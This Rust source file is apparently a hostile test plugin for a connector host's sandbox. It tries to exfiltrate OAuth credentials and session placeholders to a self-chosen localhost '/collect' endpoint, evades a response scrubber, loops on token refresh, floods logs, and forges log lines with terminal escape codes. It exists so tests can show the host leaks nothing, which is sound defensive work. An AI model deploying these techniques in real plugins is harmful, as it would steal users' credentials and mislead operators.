//! A connector written by an attacker. It declares OAuth 2.0, so that the
//! host holds real secrets for it, and an egress template whose host it
//! chose itself (`https://127.0.0.1:{port}`: the operator only picks the
//! port). Its `attack` setting picks what `test-connection` and
//! `lookup-records` try; each reports everything the guest received, so
//! that a test can prove no credential reached it.
//!
//! With the `literal-token-url` feature it also declares its token
//! endpoint at that host, to receive the client secret and refresh token.

wit_bindgen::generate!({ path: "../../wit/v0.1.0", world: "connector" });

use exports::provisioner::identity_store::identity_store::{
    AuthScheme, Capability, ConnectionReport, Descriptor, Guest, Mapping, MappingSource, Match,
    Oauth2, Operation, Outcome, Page, Setting, SettingKind,
};
use provisioner::identity_store::http::{
    self, BodyCredential, Credential, HttpError, Method, Request, Response,
};
use provisioner::identity_store::log::{self, Level};
use provisioner::identity_store::{config, types::StoreError};

struct Hostile;
export!(Hostile);

/// The host's placeholder for a body credential, as the Salesforce
/// connector uses it.
const PLACEHOLDER: &str = "{{provisioner:session-id}}";

fn setting(name: &str, kind: SettingKind, secret: bool) -> Setting {
    Setting {
        name: name.into(),
        description: format!("{name} (hostile test setting)"),
        kind,
        required: false,
        secret,
        default_value: None,
    }
}

fn token_url() -> &'static str {
    if cfg!(feature = "literal-token-url") {
        "https://127.0.0.1:{port}/services/oauth2/token"
    } else {
        "https://{domain}/oauth/token"
    }
}

/// The operator's store, from `https://{domain}`.
fn store() -> String {
    config::egress_url(0).unwrap_or_default()
}

/// The host the plugin chose. Asked of the host first; an attacker who is
/// refused it builds the URL by hand.
fn own_host() -> String {
    config::egress_url(1).unwrap_or_else(|| {
        format!(
            "http://127.0.0.1:{}",
            config::get("port").unwrap_or_default()
        )
    })
}

fn envelope(header_session: bool, lead_id: &str) -> Vec<u8> {
    let header = if header_session {
        format!(
            "<urn:SessionHeader><urn:sessionId>{PLACEHOLDER}</urn:sessionId></urn:SessionHeader>"
        )
    } else {
        String::new()
    };
    format!(
        r#"<?xml version="1.0" encoding="utf-8"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:urn="urn:partner.soap.sforce.com"><soapenv:Header>{header}</soapenv:Header><soapenv:Body><urn:convertLead><urn:leadConverts><urn:convertedStatus>Closed - Converted</urn:convertedStatus><urn:doNotCreateOpportunity>true</urn:doNotCreateOpportunity><urn:leadId>{lead_id}</urn:leadId></urn:leadConverts></urn:convertLead></soapenv:Body></soapenv:Envelope>"#
    )
    .into_bytes()
}

fn request(method: Method, url: String, body: Option<Vec<u8>>, credential: Credential) -> Request {
    Request {
        method,
        url,
        headers: vec![("content-type".into(), "text/xml; charset=UTF-8".into())],
        body,
        credential,
    }
}

fn soap(url: String, body: Vec<u8>) -> Request {
    request(
        Method::Post,
        url,
        Some(body),
        Credential::Body(BodyCredential {
            placeholder: PLACEHOLDER.into(),
            expired_marker: "INVALID_SESSION_ID".into(),
        }),
    )
}

/// Everything one answer gave the guest.
fn describe(result: &Result<Response, HttpError>) -> Vec<(String, String)> {
    match result {
        Ok(response) => vec![
            ("status".into(), response.status.to_string()),
            ("headers".into(), format!("{:?}", response.headers)),
            (
                "body".into(),
                String::from_utf8_lossy(&response.body).into_owned(),
            ),
        ],
        Err(error) => vec![("error".into(), format!("{error:?}"))],
    }
}

/// Runs the configured attack; what the guest saw, and whether the host
/// said the credentials were refused.
fn attack() -> (String, Vec<(String, String)>, bool) {
    let attack = config::get("attack").unwrap_or_default();
    let target = config::get("target_url").unwrap_or_default();
    let count: usize = config::get("count")
        .and_then(|c| c.parse().ok())
        .unwrap_or(1);
    let size: usize = config::get("size")
        .and_then(|c| c.parse().ok())
        .unwrap_or(16);
    let send = |r: Request| http::send(&r);
    let results: Vec<Result<Response, HttpError>> = match attack.as_str() {
        "header-to-own-host" => vec![send(request(
            Method::Get,
            format!("{}/collect", own_host()),
            None,
            Credential::AuthorizationHeader,
        ))],
        "plain-to-own-host" => vec![send(request(
            Method::Get,
            format!("{}/collect", own_host()),
            None,
            Credential::None,
        ))],
        "body-to-own-host" => vec![send(soap(
            format!("{}/services/Soap/u/62.0", own_host()),
            envelope(true, "00Q000000000001AAA"),
        ))],
        // The placeholder where the store echoes it back: the lead id.
        "soap-echoed-field" => vec![
            send(soap(
                format!("{}/services/Soap/u/62.0", store()),
                envelope(true, PLACEHOLDER),
            )),
            send(soap(
                format!("{}/services/Soap/u/62.0", store()),
                envelope(false, PLACEHOLDER),
            )),
        ],
        // The placeholder where it belongs, and a lead id the store
        // rejects with an error that quotes what it was sent.
        "soap-header" => vec![send(soap(
            format!("{}/services/Soap/u/62.0", store()),
            envelope(true, "00Q000000000001AAA"),
        ))],
        // Answers the scrubber could not read: compressed, or cut into
        // pieces shorter than what it searches for.
        "ask-compressed" | "ask-range" => {
            let (name, value) = if attack == "ask-compressed" {
                ("accept-encoding", "gzip")
            } else {
                ("range", "bytes=0-15")
            };
            let mut ask = request(
                Method::Get,
                format!("{}/api/me", store()),
                None,
                Credential::AuthorizationHeader,
            );
            ask.headers = vec![(name.into(), value.into())];
            vec![send(ask)]
        }
        "rest-error" => vec![send(request(
            Method::Get,
            format!(
                "{}/services/data/v62.0/sobjects/Lead/00Q000000000001AAA",
                store()
            ),
            None,
            Credential::AuthorizationHeader,
        ))],
        "send-target" => vec![send(request(
            Method::Get,
            target,
            None,
            Credential::AuthorizationHeader,
        ))],
        "401-loop" => (0..count)
            .map(|_| {
                send(request(
                    Method::Get,
                    format!("{}/api/me", store()),
                    None,
                    Credential::AuthorizationHeader,
                ))
            })
            .collect(),
        // An answer the store accepts, then one that "expires" the
        // session by a marker the connector chose, over and over.
        "marker-loop" => {
            let mut results = Vec::new();
            for _ in 0..count {
                results.push(send(request(
                    Method::Get,
                    format!("{}/api/me", store()),
                    None,
                    Credential::AuthorizationHeader,
                )));
                let mut provoke = soap(format!("{}/api/people", store()), envelope(true, "x"));
                provoke.credential = Credential::Body(BodyCredential {
                    placeholder: PLACEHOLDER.into(),
                    expired_marker: "INVALID_TOKEN".into(),
                });
                results.push(send(provoke));
            }
            results
        }
        "log-flood" => {
            let message = "x".repeat(size);
            for _ in 0..count {
                log::log(Level::Warn, &message);
            }
            Vec::new()
        }
        "stdout-flood" => {
            let line = "y".repeat(size);
            for _ in 0..count {
                println!("{line}");
                eprintln!("{line}");
            }
            Vec::new()
        }
        "forge" => {
            log::log(
                Level::Warn,
                "innocent\n2026-11-28T00:00:00.000000Z ERROR provisioner: FORGED LINE\r\x1b[2K\x1b[31mred\x1b[0m",
            );
            println!("stdout\nFORGED STDOUT LINE\x1b]0;title\x07");
            return (
                "\x1b[2J\x1b[31mconnected\r\nconnection fake (plugin x 1.0.0): OK\u{202e}".into(),
                vec![("detail\x1b[1m".into(), "value\nFORGED DETAIL".into())],
                false,
            );
        }
        other => {
            return (format!("no attack named {other:?}"), Vec::new(), false);
        }
    };
    let refused = results
        .iter()
        .any(|r| matches!(r, Err(HttpError::Unauthorized(_))));
    let mut details = Vec::new();
    for (index, result) in results.iter().enumerate() {
        for (key, value) in describe(result) {
            details.push((format!("{index}:{key}"), value));
        }
    }
    (
        format!("{attack}: {} answers", results.len()),
        details,
        refused,
    )
}

impl Guest for Hostile {
    fn describe() -> Descriptor {
        let mut settings = vec![
            setting("domain", SettingKind::Text, false),
            setting("port", SettingKind::Text, false),
            setting("attack", SettingKind::Text, false),
            setting("target_url", SettingKind::Text, false),
            setting("count", SettingKind::Integer, false),
            setting("size", SettingKind::Integer, false),
        ];
        for secret in [
            "client_id",
            "client_secret",
            "access_token",
            "refresh_token",
        ] {
            settings.push(setting(secret, SettingKind::Text, true));
        }
        Descriptor {
            name: "hostile".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            description: "attacks the host on purpose".into(),
            settings,
            capabilities: vec![Capability::Create, Capability::Lookup],
            egress: vec!["https://{domain}".into(), "https://127.0.0.1:{port}".into()],
            auth: AuthScheme::Oauth2(Oauth2 {
                token_url: token_url().into(),
            }),
            match_attribute: "email".into(),
            default_mappings: vec![Mapping {
                target: "email".into(),
                source: MappingSource::Attribute("email".into()),
                apply_on_update: true,
            }],
        }
    }

    fn test_connection() -> Result<ConnectionReport, StoreError> {
        let (summary, details, _) = attack();
        Ok(ConnectionReport { summary, details })
    }

    fn apply(operations: Vec<Operation>) -> Vec<Result<Outcome, StoreError>> {
        operations
            .into_iter()
            .map(|_| Err(StoreError::Unsupported("hostile".into())))
            .collect()
    }

    fn lookup_records(_attribute: String, _values: Vec<String>) -> Result<Vec<Match>, StoreError> {
        let (summary, details, refused) = attack();
        if refused {
            return Err(StoreError::Unauthorized(format!("{summary}: {details:?}")));
        }
        Ok(Vec::new())
    }

    fn list_records(_cursor: Option<String>) -> Result<Page, StoreError> {
        Err(StoreError::Unsupported("hostile".into()))
    }
}
